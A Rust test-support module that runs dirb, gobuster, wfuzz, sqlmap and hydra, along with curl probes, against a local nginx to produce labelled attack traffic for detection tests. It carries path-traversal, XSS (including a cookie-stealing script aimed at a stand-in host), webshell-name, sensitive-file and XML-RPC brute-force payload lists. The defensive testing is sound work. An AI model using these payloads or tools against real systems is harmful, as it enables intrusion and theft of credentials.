//! Real attack tools and real benign traffic against [`Nginx`], each bounded in time
//! (`timeout`) and in requests (small word lists written here). Every run checks that the
//! tool really reached nginx from its own client address and returns that client's lines.
//!
//! Attackers' client addresses are in 127.0.0.0/24 (benign visitors are elsewhere).

use std::path::Path;
use std::process::{Command, Stdio};

use super::benign::BROWSER_UA;
use super::line_status;
use super::Nginx;

pub const DIRB: &str = "127.0.0.10";
pub const GOBUSTER: &str = "127.0.0.11";
pub const WFUZZ: &str = "127.0.0.12";
pub const SQLMAP: &str = "127.0.0.13";
pub const HYDRA_WP: &str = "127.0.0.14";
pub const HYDRA_BASIC: &str = "127.0.0.15";
pub const SENSITIVE: &str = "127.0.0.20";
pub const SENSITIVE_MISS: &str = "127.0.0.21";
pub const TRAVERSAL: &str = "127.0.0.22";
pub const XSS: &str = "127.0.0.23";
pub const BACKDOOR: &str = "127.0.0.24";
pub const ADMIN: &str = "127.0.0.25";
pub const XMLRPC: &str = "127.0.0.26";
/// The clients that hammer `/broken` (error-burst: many clients, one failing server).
/// The people visiting before the server fails, in a /24 of their own.
pub const NORMAL: [&str; 10] = [
    "127.0.6.1",
    "127.0.6.2",
    "127.0.6.3",
    "127.0.6.4",
    "127.0.6.5",
    "127.0.6.6",
    "127.0.6.7",
    "127.0.6.8",
    "127.0.6.9",
    "127.0.6.10",
];
pub const BROKEN: [&str; 5] = [
    "127.0.0.30",
    "127.0.0.31",
    "127.0.0.32",
    "127.0.0.33",
    "127.0.0.34",
];
/// The scanners' word list: ordinary names that do not exist, and the sensitive files
/// and admin pages every real list has.
pub const WORDS: &[&str] = &[
    "index.html",
    "robots.txt",
    ".env",
    ".git/config",
    ".git/HEAD",
    ".htpasswd",
    "backup.sql",
    "wp-config.php.bak",
    "phpinfo.php",
    "phpmyadmin",
    "admin",
    "administrator",
    "backup",
    "old",
    "test",
    "tmp",
    "cgi-bin",
    "images",
    "uploads",
    "login",
    "logs",
    "private",
    "server-status",
    "config",
    "db",
    "dump",
    "includes",
    "js",
    "css",
    "static",
    "archive",
    "blog",
    "shop",
    "api",
    "v1",
    "v2",
    "docs",
    "download",
    "files",
    "forum",
    "home",
    "info",
    "install",
    "lib",
    "media",
    "news",
    "portal",
    "search",
    "setup",
    "site",
    "stats",
    "support",
    "system",
    "temp",
    "upload",
    "user",
    "web",
    "webmail",
    "xml",
    "zip",
];

/// Run `program args` under `timeout` in `dir`, output to files there. Tools report
/// findings with various exit codes, so only a kill by the timeout is an error... unless
/// the tool still did its work, which each caller checks in the log.
pub(super) fn run(dir: &Path, secs: u64, program: &str, args: &[&str]) {
    let out = std::fs::File::create(dir.join(format!("{program}.out"))).unwrap();
    let status = Command::new("timeout")
        .args(["-k", "2", &secs.to_string(), program])
        .args(args)
        .current_dir(dir)
        .stdin(Stdio::null())
        .stdout(out.try_clone().unwrap())
        .stderr(out)
        .status()
        .unwrap();
    eprintln!("{program}: {status}");
}

pub(super) fn tool_dir(nginx: &Nginx, tool: &str) -> std::path::PathBuf {
    let dir = nginx.dir.join("tools").join(tool);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// The lines `client` produced; fails when there are fewer than `min` (the tool did not
/// really run).
pub(super) fn produced(nginx: &Nginx, client: &str, tool: &str, min: usize) -> Vec<String> {
    let lines = nginx.lines_from(client);
    assert!(
        lines.len() >= min,
        "{tool} produced {} lines from {client} (expected ≥ {min}); see {}",
        lines.len(),
        nginx.dir.join("tools").join(tool).display()
    );
    lines
}

fn word_list(dir: &Path) -> String {
    let path = dir.join("words.txt");
    std::fs::write(&path, WORDS.join("\n") + "\n").unwrap();
    path.to_str().unwrap().to_owned()
}

fn client_header(client: &str) -> String {
    format!("X-Test-Client: {client}")
}

pub fn dirb(nginx: &Nginx) -> Vec<String> {
    let dir = tool_dir(nginx, "dirb");
    let words = word_list(&dir);
    let header = client_header(DIRB);
    // -S silent, -r not recursive, -z 0: no delay.
    run(
        &dir,
        30,
        "dirb",
        &[
            &nginx.url("/"),
            &words,
            "-H",
            &header,
            "-S",
            "-r",
            "-z",
            "0",
        ],
    );
    produced(nginx, DIRB, "dirb", WORDS.len())
}

pub fn gobuster(nginx: &Nginx) -> Vec<String> {
    let dir = tool_dir(nginx, "gobuster");
    let words = word_list(&dir);
    let header = client_header(GOBUSTER);
    let url = nginx.url("/");
    run(
        &dir,
        30,
        "gobuster",
        &[
            "dir",
            "-q",
            "--no-error",
            "-t",
            "4",
            "-u",
            &url,
            "-w",
            &words,
            "-H",
            &header,
        ],
    );
    produced(nginx, GOBUSTER, "gobuster", WORDS.len())
}

pub fn wfuzz(nginx: &Nginx) -> Vec<String> {
    let dir = tool_dir(nginx, "wfuzz");
    let words = format!("file,{}", word_list(&dir));
    let header = client_header(WFUZZ);
    let url = nginx.url("/FUZZ");
    run(
        &dir,
        30,
        "wfuzz",
        &["-z", &words, "-t", "4", "--hc", "404", "-H", &header, &url],
    );
    produced(nginx, WFUZZ, "wfuzz", WORDS.len())
}

/// sqlmap on `/item?id=1`: level 1, boolean/error/union techniques, a hard timeout.
pub fn sqlmap(nginx: &Nginx) -> Vec<String> {
    let dir = tool_dir(nginx, "sqlmap");
    let url = nginx.url("/item?id=1");
    let headers = client_header(SQLMAP);
    let output = dir.join("output");
    run(
        &dir,
        60,
        "sqlmap",
        &[
            "-u",
            &url,
            "--batch",
            "--level",
            "1",
            "--risk",
            "1",
            "--technique",
            "BEU",
            "--headers",
            &headers,
            "--output-dir",
            output.to_str().unwrap(),
            "--disable-coloring",
            "--flush-session",
        ],
    );
    produced(nginx, SQLMAP, "sqlmap", 20)
}

fn passwords(dir: &Path) -> String {
    let path = dir.join("passwords.txt");
    let list: Vec<String> = (1..=20).map(|i| format!("password{i}")).collect();
    std::fs::write(&path, list.join("\n") + "\n").unwrap();
    path.to_str().unwrap().to_owned()
}

/// hydra http-post-form on /wp-login.php, 20 passwords (every one fails: 200).
pub fn hydra_wp_login(nginx: &Nginx) -> Vec<String> {
    let dir = tool_dir(nginx, "hydra-wp");
    let list = passwords(&dir);
    let port = nginx.port.to_string();
    // hydra 9.4 wants the header option before the failure string.
    let form = format!(
        "/wp-login.php:log=^USER^&pwd=^PASS^&wp-submit=Log+In:H=X-Test-Client\\: {HYDRA_WP}:F=incorrect"
    );
    run(
        &dir,
        30,
        "hydra",
        &[
            "-I",
            "-l",
            "admin",
            "-P",
            &list,
            "-t",
            "4",
            "-s",
            &port,
            "127.0.0.1",
            "http-post-form",
            &form,
        ],
    );
    let lines = produced(nginx, HYDRA_WP, "hydra", 20);
    let posts = lines
        .iter()
        .filter(|l| l.contains("\"POST /wp-login.php"))
        .count();
    assert_eq!(posts, 20, "hydra's POSTs: {lines:#?}");
    lines
}

/// hydra http-get on the basic-auth location, 20 passwords (every one answered 401).
pub fn hydra_basic_auth(nginx: &Nginx) -> Vec<String> {
    let dir = tool_dir(nginx, "hydra-basic");
    let list = passwords(&dir);
    let port = nginx.port.to_string();
    let path = format!("/private/:H=X-Test-Client\\: {HYDRA_BASIC}");
    run(
        &dir,
        30,
        "hydra",
        &[
            "-I",
            "-l",
            "alice",
            "-P",
            &list,
            "-t",
            "4",
            "-s",
            &port,
            "-m",
            &path,
            "127.0.0.1",
            "http-get",
        ],
    );
    let lines = produced(nginx, HYDRA_BASIC, "hydra", 20);
    assert!(
        lines.iter().all(|l| line_status(l) == Some(401)),
        "{lines:#?}"
    );
    lines
}

/// curl from `client` (bound with `--interface`; `::1` goes over IPv6), one request per
/// URL path, without normalising the paths; returns the status codes.
pub fn curl(nginx: &Nginx, client: &str, ua: &str, paths: &[&str], extra: &[&str]) -> Vec<u16> {
    let mut cmd = Command::new("curl");
    cmd.args(["-s", "-g", "--path-as-is", "--max-time", "10", "-A", ua])
        .args(["-w", "%{http_code}\\n"])
        .args(extra);
    if client == "::1" {
        cmd.arg("-6");
    } else {
        cmd.args(["--interface", client]);
    }
    // One `-o` per URL: curl pairs them in order.
    for p in paths {
        cmd.args(["-o", "/dev/null"]);
        cmd.arg(if client == "::1" {
            nginx.url6(p)
        } else {
            nginx.url(p)
        });
    }
    let out = cmd.stdin(Stdio::null()).output().unwrap();
    let codes: Vec<u16> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| l.parse().ok())
        .collect();
    assert_eq!(
        codes.len(),
        paths.len(),
        "curl from {client}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    codes
}

const CURL_UA: &str = "curl/7.88.1";

/// Files that must never be served; the docroot's `.env` (which the caller creates)
/// answers 200 with its content.
pub const SENSITIVE_PATHS: &[&str] = &[
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/wp-config.php.bak",
    "/.htpasswd",
    "/backup.sql",
    "/phpinfo.php",
    "/db.sql.gz",
];

/// The same kind of files, none of them there (all 404).
pub const SENSITIVE_MISSING_PATHS: &[&str] = &[
    "/.git/config",
    "/.git/HEAD",
    "/wp-config.php.bak",
    "/.htpasswd",
    "/backup.sql",
    "/phpinfo.php",
    "/.aws/credentials",
    "/.DS_Store",
];

/// Path traversal, plain, encoded, double-encoded, and through PHP wrappers.
pub const TRAVERSAL_PATHS: &[&str] = &[
    "/../../../../etc/passwd",
    "/index.php?page=../../../../etc/passwd",
    "/index.php?file=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/index.php?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "/static/..%2f..%2f..%2fetc/shadow",
    "/index.php?page=php://filter/convert.base64-encode/resource=index.php",
    "/./.././../etc/passwd",
    "/index.php?file=....//....//....//etc/passwd",
    "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
    "/index.php?template=file:///etc/passwd",
];

/// Script injection in query strings, plain and encoded.
pub const XSS_PATHS: &[&str] = &[
    "/index.html?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/index.html?q=%3Cimg%20src=x%20onerror=alert(document.cookie)%3E",
    "/index.html?name=%22%3E%3Csvg/onload=alert(1)%3E",
    "/index.html?q=javascript:alert(1)",
    "/index.html?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "/index.html?q=%3Cbody%20onload=alert('xss')%3E",
    "/index.html?q=%3Ciframe%20src=javascript:alert(1)%3E",
    "/index.html?ref=%3CScRiPt%3Edocument.location='http://x/'+document.cookie%3C/sCrIpT%3E",
];

/// Well-known webshell names.
pub const BACKDOOR_PATHS: &[&str] = &[
    "/shell.php",
    "/c99.php",
    "/r57.php",
    "/wso.php",
    "/b374k.php",
    "/alfa.php",
    "/wp-content/uploads/shell.php",
    "/cmd.php?cmd=id",
    "/mini.php",
    "/indoxploit.php",
];

/// Admin interfaces this site does not have.
pub const ADMIN_PATHS: &[&str] = &[
    "/phpmyadmin/",
    "/phpMyAdmin/index.php",
    "/pma/",
    "/myadmin/",
    "/mysql/admin/",
    "/administrator/",
    "/manager/html",
    "/admin.php",
    "/cpanel",
    "/dbadmin/",
];

/// One curl request per path from `client`; returns the client's lines.
fn probe(nginx: &Nginx, client: &str, paths: &[&str]) -> Vec<String> {
    curl(nginx, client, CURL_UA, paths, &[]);
    produced(nginx, client, "curl", paths.len())
}

pub fn probe_sensitive(nginx: &Nginx) -> Vec<String> {
    probe(nginx, SENSITIVE, SENSITIVE_PATHS)
}

pub fn probe_sensitive_missing(nginx: &Nginx) -> Vec<String> {
    let lines = probe(nginx, SENSITIVE_MISS, SENSITIVE_MISSING_PATHS);
    assert!(
        lines.iter().all(|l| line_status(l) == Some(404)),
        "{lines:#?}"
    );
    lines
}

pub fn probe_traversal(nginx: &Nginx) -> Vec<String> {
    probe(nginx, TRAVERSAL, TRAVERSAL_PATHS)
}

pub fn probe_xss(nginx: &Nginx) -> Vec<String> {
    probe(nginx, XSS, XSS_PATHS)
}

pub fn probe_backdoors(nginx: &Nginx) -> Vec<String> {
    probe(nginx, BACKDOOR, BACKDOOR_PATHS)
}

pub fn probe_admin(nginx: &Nginx) -> Vec<String> {
    probe(nginx, ADMIN, ADMIN_PATHS)
}

/// Password guesses over XML-RPC (`wp.getUsersBlogs`), each answered 200 with a fault.
pub fn xmlrpc_brute_force(nginx: &Nginx) -> Vec<String> {
    let paths = ["/xmlrpc.php"; 12];
    curl(
        nginx,
        XMLRPC,
        "Mozilla/5.0",
        &paths,
        &["-X", "POST", "-H", "Content-Type: text/xml", "--data",
          "<methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value>admin</value></param><param><value>guess</value></param></params></methodCall>"],
    );
    produced(nginx, XMLRPC, "curl", paths.len())
}

/// Ordinary visits by ten people (the server's "normal"), then every `BROKEN` client
/// hits `/broken` 20 times: the server fails for everyone.
pub fn hammer_broken(nginx: &Nginx) -> Vec<String> {
    for visitor in NORMAL {
        curl(
            nginx,
            visitor,
            BROWSER_UA,
            &["/index.html", "/page1.html", "/page2.html"],
            &[],
        );
    }
    for client in BROKEN {
        let codes = curl(nginx, client, BROWSER_UA, &["/broken"; 20], &[]);
        assert!(codes.iter().all(|c| *c == 500), "{codes:?}");
    }
    nginx.lines()
}
